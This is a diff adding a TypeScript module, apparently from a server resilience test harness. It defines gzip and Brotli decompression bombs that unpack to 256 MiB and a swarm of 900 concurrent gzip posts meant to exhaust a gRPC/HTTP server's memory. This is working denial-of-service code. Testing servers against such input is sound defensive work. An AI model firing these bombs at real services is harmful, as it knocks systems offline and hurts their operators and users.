@@ -1,0 +1,52 @@
+import { promisify } from "node:util";
+import { brotliCompress, constants, gzip } from "node:zlib";
+import { envelope } from "../http2-frames.ts";
+import { methods } from "../methods.ts";
+import { postHttp1, postHttp2 } from "../post.ts";
+import { type Attack, type Outcome, type Target, tally } from "../target.ts";
+
+const MiB = 1024 * 1024;
+const bombBytes = 256 * MiB;
+const bombs = 20;
+
+/** Less than a message may have, in so many calls that all of them together would fill the memory. */
+const swarmBytes = 3.9 * MiB;
+const swarm = 900;
+
+/** Messages that unpack to 256 MiB. */
+export const gzipBomb: Attack = async (target) =>
+  explode(target, "gzip", await promisify(gzip)(Buffer.alloc(bombBytes), { level: 1 }));
+
+/** The same in Brotli, which packs them into some 200 bytes. */
+export const brotliBomb: Attack = async (target) => {
+  const params = { [constants.BROTLI_PARAM_QUALITY]: 3 };
+  return explode(target, "br", await promisify(brotliCompress)(Buffer.alloc(bombBytes), { params }));
+};
+
+/** 900 calls at once on one connection, each of 4 KB that unpack to almost as much as a message may have. */
+export const bombSwarm: Attack = async (target) => {
+  const body = await promisify(gzip)(Buffer.alloc(swarmBytes, " "));
+  const post = { path: methods.getProduct, contentType: "application/json", body };
+  return tally(await postHttp2(target, { ...post, headers: { "content-encoding": "gzip" } }, swarm));
+};
+
+async function explode(target: Target, encoding: string, packed: Buffer): Promise<Outcome> {
+  const inEnvelope = {
+    path: methods.listProducts,
+    contentType: "application/grpc",
+    body: envelope(1, packed),
+    headers: { "grpc-encoding": encoding },
+  };
+  const plain = {
+    path: methods.getProduct,
+    contentType: "application/proto",
+    body: packed,
+    headers: { "content-encoding": encoding },
+  };
+  const answers = await Promise.all([
+    postHttp2(target, inEnvelope, bombs),
+    postHttp2(target, plain, bombs),
+    postHttp1(target, plain, bombs),
+  ]);
+  return tally(answers.flat());
+}
